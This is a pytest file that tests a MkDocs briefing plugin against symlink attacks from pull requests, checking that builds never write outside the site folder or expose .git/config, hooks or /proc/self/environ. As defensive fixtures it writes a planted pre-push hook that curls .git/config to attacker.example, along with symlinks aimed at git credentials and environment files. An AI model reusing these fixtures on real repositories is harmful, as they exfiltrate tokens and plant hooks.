"""What a pull request's files can make a build do (issue 21, findings 1 and 2), through the real
commands: links committed under site/ (`git add -f`) must never make a build write, move or delete
outside the site folder, and links in docs/ get the rule links in seeds/ have (load/links.py).

Every hostile tree is made here, in a temporary folder: a fake `.git` with a token in its config and a
hooks folder, a folder "elsewhere" the build must leave as it was (names, bytes and times)."""

from __future__ import annotations

import os
import shutil
import sys
import urllib.error
from pathlib import Path

import pytest

from conftest import ENV, MKDOCS_YML, briefing, mkdocs_build, new_project, run
from preview_server import Server

FILES = {
    "seeds/actors/china.yaml": "name: China\nkind: state\n",
    "seeds/articles/a1.txt": "China spoke.\n",
    "seeds/articles/a1.yaml": "title: China speaks\ndate: 2024-03-01\n",
    "docs/index.md": "What this briefing tracks.\n",
}
TOKEN = "SECRET-TOKEN-0123456789"
# The ways a build clears the last site: in the background (the default), here (`fast_pages: false`),
# and not at all (`--dirty`, which keeps the last site's pages but must still drop every link).
MODES = {
    "background": (MKDOCS_YML, ("--strict",)),
    "in-process": (MKDOCS_YML.replace("  - briefing\n", "  - briefing:\n      fast_pages: false\n"), ("--strict",)),
    "dirty": (MKDOCS_YML, ("--dirty",)),  # MkDocs warns about --dirty itself: not --strict
}


def hostile_project(tmp_path: Path, config: str = MKDOCS_YML) -> Path:
    root = new_project(tmp_path / "project", FILES, config=config)
    (root / ".git/hooks").mkdir(parents=True)
    (root / ".git/hooks/pre-commit.sample").write_text("#!/bin/sh\n", encoding="utf-8")
    (root / ".git/config").write_text(f"[http]\n\textraheader = AUTHORIZATION: basic {TOKEN}\n", encoding="utf-8")
    return root


def elsewhere(tmp_path: Path) -> Path:
    """A folder outside the project, with a file named as one the build writes."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "feed.xml").write_text("mine, not the build's", encoding="utf-8")
    (folder / "notes").mkdir()
    (folder / "notes/keep.txt").write_text("keep", encoding="utf-8")
    return folder


def snapshot(folder: Path) -> dict[str, tuple]:
    """Every entry under `folder` (itself included), never following a link: kind, bytes, times."""
    found = {}
    for path in [folder, *sorted(folder.rglob("*"))]:
        st = path.lstat()
        content = path.read_bytes() if path.is_file() and not path.is_symlink() else os.readlink(path) if path.is_symlink() else None
        found[path.relative_to(folder).as_posix()] = (st.st_mode, st.st_mtime_ns, content)
    return found


def build(root: Path, extra: tuple[str, ...]):
    return run([sys.executable, "-m", "mkdocs", "build", *extra], cwd=root)


def assert_built(result) -> None:
    assert result.code == 0 and "Traceback" not in result.output, result.output


# ---- finding 1: links committed under site/ ---------------------------------------------------------

@pytest.mark.parametrize("mode", sorted(MODES))
def test_a_planted_old_site_link_moves_and_plants_nothing(tmp_path, mode):
    """The issue's attack: `site/.briefing-old-site` leading elsewhere (the last site's entries were moved
    there, its feed.xml overwritten), and one to `../.git/hooks` with a committed `site/pre-push`."""
    config, extra = MODES[mode]
    root = hostile_project(tmp_path, config)
    outside = elsewhere(tmp_path)
    assert_built(mkdocs_build(root))
    site = root / "site"
    hooks_before, outside_before = snapshot(root / ".git/hooks"), snapshot(outside)
    (site / ".briefing-old-site").symlink_to("../.git/hooks")
    (site / "pre-push").write_text("#!/bin/sh\ncurl https://attacker.example/ -d @.git/config\n", encoding="utf-8")
    (site / ".briefing-old-site-x").symlink_to(outside)  # any name the build's own folder might take
    (site / "sitemap.xml").unlink()
    (site / "sitemap.xml").symlink_to(outside / "feed.xml")  # a page the build writes, as a link
    assert_built(build(root, extra))
    assert snapshot(root / ".git/hooks") == hooks_before, "nothing moved into, or planted in, .git/hooks"
    assert snapshot(outside) == outside_before, "the folder elsewhere is as it was"
    assert not os.path.lexists(site / ".briefing-old-site") and not os.path.lexists(site / ".briefing-old-site-x")
    assert not (site / "sitemap.xml").is_symlink() and (site / "sitemap.xml").is_file()
    if mode != "dirty":
        assert not os.path.lexists(site / "pre-push")  # the last site's entries are gone
    assert (site / "feed.xml").read_text(encoding="utf-8").startswith("<?xml")


@pytest.mark.parametrize("mode", sorted(MODES))
def test_a_linked_folder_in_the_site_is_removed_as_a_link(tmp_path, mode):
    """MkDocs' own cleaning calls rmtree on a link to a folder, which fails quietly and leaves the link:
    its pages (here assets/) were then written through it."""
    config, extra = MODES[mode]
    root = hostile_project(tmp_path, config)
    outside = elsewhere(tmp_path)
    assert_built(mkdocs_build(root))
    site = root / "site"
    before = snapshot(outside)
    shutil.rmtree(site / "assets")
    (site / "assets").symlink_to(outside)
    shutil.rmtree(site / "actors/china")
    (site / "actors/china").symlink_to(outside / "notes")  # deeper in the site, for --dirty
    assert_built(build(root, extra))
    assert snapshot(outside) == before
    for entry in ("assets", "actors/china"):
        assert (site / entry).is_dir() and not (site / entry).is_symlink()
    assert (site / "assets/briefing.css").is_file()


def test_a_site_folder_that_is_a_link_is_refused(tmp_path):
    root = hostile_project(tmp_path)
    outside = elsewhere(tmp_path)
    before = snapshot(outside)
    (root / "site").symlink_to(outside)
    for result in (briefing("check", cwd=root), mkdocs_build(root)):
        assert result.code == 1 and "Traceback" not in result.output, result.output
        assert "site:1: error: is a link (to " in result.output and "a build never writes through a link" in result.output
    assert snapshot(outside) == before


def test_hidden_entries_of_the_last_site_are_not_carried_but_nojekyll_is(tmp_path):
    """`site/.leak -> ../.git/config` survived every build (MkDocs keeps hidden entries), and went into
    any archive made with --dereference (as GitHub's upload-pages-artifact makes it)."""
    for mode, (config, extra) in sorted(MODES.items()):
        root = hostile_project(tmp_path / mode, config)
        assert_built(mkdocs_build(root))
        site = root / "site"
        (site / ".leak").symlink_to("../.git/config")
        (site / ".secrets").mkdir()
        (site / ".secrets/key").write_text(TOKEN, encoding="utf-8")
        (site / ".well-known").symlink_to("../.git")
        (site / ".nojekyll").write_text("", encoding="utf-8")
        assert_built(build(root, extra))
        hidden = sorted(entry.name for entry in site.iterdir() if entry.name.startswith("."))
        assert hidden == [".nojekyll"], (mode, hidden)
        assert not (site / ".nojekyll").is_symlink()
        assert TOKEN in (root / ".git/config").read_text(encoding="utf-8")  # the target, untouched
        # A `.nojekyll` that is a link is not the file the docs keep.
        (site / ".nojekyll").unlink()
        (site / ".nojekyll").symlink_to("../.git/config")
        assert_built(build(root, extra))
        assert not os.path.lexists(site / ".nojekyll"), mode
        for path in site.rglob("*"):
            assert not path.is_symlink(), path
            assert path.is_dir() or TOKEN.encode() not in path.read_bytes(), path


def test_a_site_folder_tracked_by_git_is_a_warning_from_check(tmp_path):
    root = hostile_project(tmp_path)
    shutil.rmtree(root / ".git")
    assert run(["git", "init", "-q"], cwd=root).code == 0
    clean = briefing("check", cwd=root)
    assert clean.code == 0 and "tracked by git" not in clean.output, clean.output
    (root / "site").mkdir()
    (root / "site/x").write_text("committed", encoding="utf-8")
    assert run(["git", "add", "-f", "site/x"], cwd=root).code == 0
    result = briefing("check", cwd=root)
    assert result.code == 0, result.output
    assert "site:1: warning: tracked by git (site/x): " in result.stdout, result.output
    assert "git rm -r --cached site" in result.stdout
    # From a folder inside the project, the path is relative to it, as every other problem's.
    inside = briefing("check", cwd=root / "seeds")
    assert "../site:1: warning: tracked by git" in inside.stdout, inside.output
    # No git on PATH: no warning, and no error either.
    no_git = briefing("check", cwd=root, env={**ENV, "PATH": str(tmp_path / "no-such-folder")})
    assert no_git.code == 0 and "tracked by git" not in no_git.output, no_git.output
    # Not a git checkout: nothing to say.
    shutil.rmtree(root / ".git")
    assert "tracked by git" not in briefing("check", cwd=root).output


# ---- finding 2: links in docs/ -----------------------------------------------------------------------

def test_links_in_docs_out_of_the_project_are_errors_and_the_last_site_stays(tmp_path):
    root = hostile_project(tmp_path)
    assert_built(mkdocs_build(root))
    home = root / "site/index.html"
    home_before = (home.read_bytes(), home.stat().st_mtime_ns)
    (root / "docs/leak.txt").symlink_to("../.git/config")
    (root / "docs/env.txt").symlink_to("/proc/self/environ")
    (root / "docs/git").symlink_to("../.git")  # a folder under a hidden place
    (root / "docs/loop").symlink_to(".")  # a folder inside itself
    (root / "docs/leak.md").symlink_to("../.git/config")  # a page: the intro's neighbours too
    for result in (briefing("check", cwd=root), mkdocs_build(root)):
        assert result.code == 1 and "Traceback" not in result.output, result.output
        assert "docs/leak.txt:1: error: links to a file under '.git'" in result.output
        assert "docs/leak.md:1: error: links to a file under '.git'" in result.output
        assert "docs/env.txt:1: error: links to a file outside the project (/proc/" in result.output
        assert "docs/git:1: error: links to a folder under '.git'" in result.output
        assert "docs/loop:1: error: is a link to a folder it is in (a loop)" in result.output
        assert TOKEN not in result.output
    assert "in docs/; the site was not rebuilt" in result.output
    assert (home.read_bytes(), home.stat().st_mtime_ns) == home_before, "the last site is left as it was"
    assert not (root / "site/leak.txt").exists() and not (root / "site/env.txt").exists()


def test_a_linked_docs_folder_or_intro_is_refused_and_never_read(tmp_path):
    root = hostile_project(tmp_path)
    outside = elsewhere(tmp_path)
    (outside / "index.md").write_text(f"Intro from elsewhere {TOKEN}\n", encoding="utf-8")
    shutil.rmtree(root / "docs")
    (root / "docs").symlink_to(outside)
    for result in (briefing("check", cwd=root), mkdocs_build(root)):
        assert result.code == 1 and f"docs:1: error: links to a folder outside the project ({outside})" in result.output, result.output
    generated = briefing("generate", "--out", "out", cwd=root)  # `generate` reads the intro too: never from there
    assert generated.code == 0, generated.output
    assert not any(TOKEN in path.read_text(encoding="utf-8") for path in (root / "out").rglob("*.md"))
    (root / "docs").unlink()
    (root / "docs").mkdir()
    (root / "docs/index.md").symlink_to("../.git/config")
    result = briefing("check", cwd=root)
    assert result.code == 1 and "docs/index.md:1: error: links to a file under '.git'" in result.stdout, result.output


def test_links_in_docs_that_stay_in_the_project_are_followed(tmp_path):
    root = hostile_project(tmp_path)
    (root / "shared").mkdir()
    (root / "shared/about.md").write_text("# About\n\nShared page.\n", encoding="utf-8")
    (root / "shared/logo.txt").write_text("logo", encoding="utf-8")
    (root / "docs/about.md").symlink_to("../shared/about.md")
    (root / "docs/files").symlink_to("../shared")
    assert briefing("check", cwd=root).code == 0
    assert_built(mkdocs_build(root))
    assert "Shared page." in (root / "site/about/index.html").read_text(encoding="utf-8")
    assert (root / "site/files/logo.txt").read_text(encoding="utf-8") == "logo"


@pytest.mark.parametrize("command", ["mkdocs", "briefing"])
def test_serve_leaves_refused_docs_out_and_shows_the_errors(tmp_path, command):
    root = hostile_project(tmp_path)
    (root / "docs/leak.txt").symlink_to("../.git/config")
    (root / "docs/env.txt").symlink_to("/proc/self/environ")
    srv = Server(root, command)
    try:
        srv.wait_for_output("Serving on")
        page = srv.wait_for_page("articles/a1/", "briefing-errors")
        assert "docs/leak.txt:1: error: links to a file under &#39;.git&#39;" in page
        assert "docs/env.txt:1: error: links to a file outside the project" in page
        assert "</a> spoke.</p>" in page  # the valid pages are served
        for leaked in ("leak.txt", "env.txt"):
            with pytest.raises(urllib.error.HTTPError):
                srv.get(leaked)
        assert TOKEN not in srv.output and "Traceback" not in srv.output, srv.output
    finally:
        srv.stop()
